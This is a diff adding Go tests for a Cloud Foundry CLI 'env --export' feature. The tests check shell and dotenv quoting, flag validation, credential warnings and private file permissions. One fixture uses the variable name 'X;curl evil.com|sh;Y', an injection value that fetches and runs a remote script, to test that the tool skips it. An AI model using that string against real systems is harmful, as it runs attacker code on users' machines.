@@ -2,10 +2,16 @@ package v7_test
 
 import (
 	"errors"
+	"os"
+	"path/filepath"
+	"regexp"
+	"runtime"
 
 	"code.cloudfoundry.org/cli/actor/actionerror"
 	"code.cloudfoundry.org/cli/actor/v7action"
 	"code.cloudfoundry.org/cli/command/commandfakes"
+	"code.cloudfoundry.org/cli/command/flag"
+	"code.cloudfoundry.org/cli/command/translatableerror"
 	. "code.cloudfoundry.org/cli/command/v7"
 	"code.cloudfoundry.org/cli/command/v7/v7fakes"
 	"code.cloudfoundry.org/cli/util/configv3"
@@ -270,4 +276,187 @@ var _ = Describe("env Command", func() {
 			})
 		})
 	})
+
+	When("--output is provided without --export", func() {
+		BeforeEach(func() {
+			cmd.OutputFile = "some-file"
+		})
+
+		It("returns a required flags error", func() {
+			Expect(executeErr).To(MatchError(translatableerror.RequiredFlagsError{Arg1: "--output", Arg2: "--export"}))
+			Expect(fakeSharedActor.CheckTargetCallCount()).To(Equal(0))
+		})
+	})
+
+	When("--flatten-credentials is provided without --export", func() {
+		BeforeEach(func() {
+			cmd.FlattenCredentials = true
+		})
+
+		It("returns a required flags error", func() {
+			Expect(executeErr).To(MatchError(translatableerror.RequiredFlagsError{Arg1: "--flatten-credentials", Arg2: "--export"}))
+		})
+	})
+
+	When("--export is provided", func() {
+		BeforeEach(func() {
+			fakeConfig.TargetedSpaceReturns(configv3.Space{Name: "some-space", GUID: "some-space-guid"})
+			fakeConfig.TargetedOrganizationReturns(configv3.Organization{Name: "some-org"})
+			fakeActor.GetCurrentUserReturns(configv3.User{Name: "banana"}, nil)
+
+			fakeActor.GetEnvironmentVariablesByApplicationNameAndSpaceReturns(v7action.EnvironmentVariableGroups{
+				System: map[string]interface{}{
+					"VCAP_SERVICES": map[string]interface{}{
+						"p-mysql": []interface{}{
+							map[string]interface{}{
+								"name":        "db",
+								"credentials": map[string]interface{}{"uri": "mysql://it's"},
+							},
+						},
+					},
+				},
+				EnvironmentVariables: map[string]interface{}{
+					"GREETING": "hello $USER",
+				},
+			}, v7action.Warnings{"env-warning"}, nil)
+		})
+
+		When("the format is dotenv", func() {
+			BeforeEach(func() {
+				cmd.Export = "dotenv"
+				cmd.FlattenCredentials = true
+			})
+
+			It("prints the quoted variables and warns about credentials", func() {
+				Expect(executeErr).ToNot(HaveOccurred())
+
+				Expect(testUI.Out).ToNot(Say("Getting env variables"))
+				Expect(string(testUI.Out.(*Buffer).Contents())).To(Equal(
+					`DB_URI="mysql://it's"` + "\n" +
+						`GREETING='hello $USER'` + "\n" +
+						`VCAP_SERVICES="{\"p-mysql\":[{\"credentials\":{\"uri\":\"mysql://it's\"},\"name\":\"db\"}]}"` + "\n",
+				))
+				Expect(testUI.Err).To(Say("env-warning"))
+				Expect(testUI.Err).To(Say("The exported environment contains service credentials. Keep it out of version control."))
+
+				appName, spaceGUID := fakeActor.GetEnvironmentVariablesByApplicationNameAndSpaceArgsForCall(0)
+				Expect(appName).To(Equal("some-app"))
+				Expect(spaceGUID).To(Equal("some-space-guid"))
+			})
+		})
+
+		When("the format is shell", func() {
+			BeforeEach(func() {
+				cmd.Export = "shell"
+			})
+
+			It("prints export statements", func() {
+				Expect(executeErr).ToNot(HaveOccurred())
+				Expect(testUI.Out).To(Say(`export GREETING='hello \$USER'`))
+				Expect(testUI.Out).To(Say(`export VCAP_SERVICES='\{"p-mysql":\[\{"credentials":\{"uri":"mysql://it'\\''s"\},"name":"db"\}\]\}'`))
+			})
+		})
+
+		When("a variable name is not a valid environment variable name", func() {
+			BeforeEach(func() {
+				fakeActor.GetEnvironmentVariablesByApplicationNameAndSpaceReturns(v7action.EnvironmentVariableGroups{
+					EnvironmentVariables: map[string]interface{}{
+						"GREETING":             "hello",
+						"X;curl evil.com|sh;Y": "boom",
+					},
+				}, nil, nil)
+			})
+
+			for _, format := range []string{"shell", "dotenv"} {
+				When("the format is "+format, func() {
+					BeforeEach(func() {
+						cmd.Export = format
+					})
+
+					It("skips the variable and warns about it", func() {
+						Expect(executeErr).ToNot(HaveOccurred())
+						Expect(string(testUI.Out.(*Buffer).Contents())).To(ContainSubstring("GREETING="))
+						Expect(string(testUI.Out.(*Buffer).Contents())).ToNot(ContainSubstring("curl"))
+						Expect(testUI.Err).To(Say(`Variable X;curl evil\.com\|sh;Y was not exported because its name is not a valid environment variable name\.`))
+					})
+				})
+			}
+		})
+
+		When("the format is json", func() {
+			BeforeEach(func() {
+				cmd.Export = "json"
+			})
+
+			It("prints a JSON object of strings", func() {
+				Expect(executeErr).ToNot(HaveOccurred())
+				Expect(string(testUI.Out.(*Buffer).Contents())).To(MatchJSON(`{
+					"GREETING": "hello $USER",
+					"VCAP_SERVICES": "{\"p-mysql\":[{\"credentials\":{\"uri\":\"mysql://it's\"},\"name\":\"db\"}]}"
+				}`))
+			})
+		})
+
+		When("--output is provided", func() {
+			var outputFile string
+
+			BeforeEach(func() {
+				dir, err := os.MkdirTemp("", "env-export")
+				Expect(err).ToNot(HaveOccurred())
+				outputFile = filepath.Join(dir, ".env")
+				Expect(os.WriteFile(outputFile, []byte("old content"), 0644)).To(Succeed())
+
+				cmd.Export = "dotenv"
+				cmd.OutputFile = flag.Path(outputFile)
+			})
+
+			AfterEach(func() {
+				Expect(os.RemoveAll(filepath.Dir(outputFile))).To(Succeed())
+			})
+
+			It("writes the export to a file only the user can read", func() {
+				Expect(executeErr).ToNot(HaveOccurred())
+
+				Expect(testUI.Out).To(Say(`Exporting env variables for app some-app in org some-org / space some-space to %s as banana\.\.\.`, regexp.QuoteMeta(outputFile)))
+				Expect(testUI.Out).To(Say("OK"))
+				Expect(testUI.Err).To(Say("contains service credentials and is readable only by you"))
+
+				content, err := os.ReadFile(outputFile)
+				Expect(err).ToNot(HaveOccurred())
+				Expect(string(content)).To(HavePrefix(`GREETING='hello $USER'` + "\n"))
+
+				if runtime.GOOS != "windows" {
+					info, err := os.Stat(outputFile)
+					Expect(err).ToNot(HaveOccurred())
+					Expect(info.Mode().Perm()).To(Equal(os.FileMode(0600)))
+				}
+			})
+		})
+
+		When("the environment is redacted", func() {
+			BeforeEach(func() {
+				cmd.Export = "dotenv"
+				fakeActor.GetEnvironmentVariablesByApplicationNameAndSpaceReturns(v7action.EnvironmentVariableGroups{
+					System: map[string]interface{}{"redacted_message": "[PRIVATE DATA HIDDEN]"},
+				}, nil, nil)
+			})
+
+			It("warns that VCAP_SERVICES was not exported", func() {
+				Expect(executeErr).ToNot(HaveOccurred())
+				Expect(testUI.Err).To(Say("VCAP_SERVICES and VCAP_APPLICATION were not exported because you are not authorized to view them."))
+			})
+		})
+
+		When("getting the environment fails", func() {
+			BeforeEach(func() {
+				cmd.Export = "dotenv"
+				fakeActor.GetEnvironmentVariablesByApplicationNameAndSpaceReturns(v7action.EnvironmentVariableGroups{}, v7action.Warnings{"env-warning"}, errors.New("env-error"))
+			})
+
+			It("returns the error and displays warnings", func() {
+				Expect(executeErr).To(MatchError("env-error"))
+				Expect(testUI.Err).To(Say("env-warning"))
+			})
+		})
+	})
 })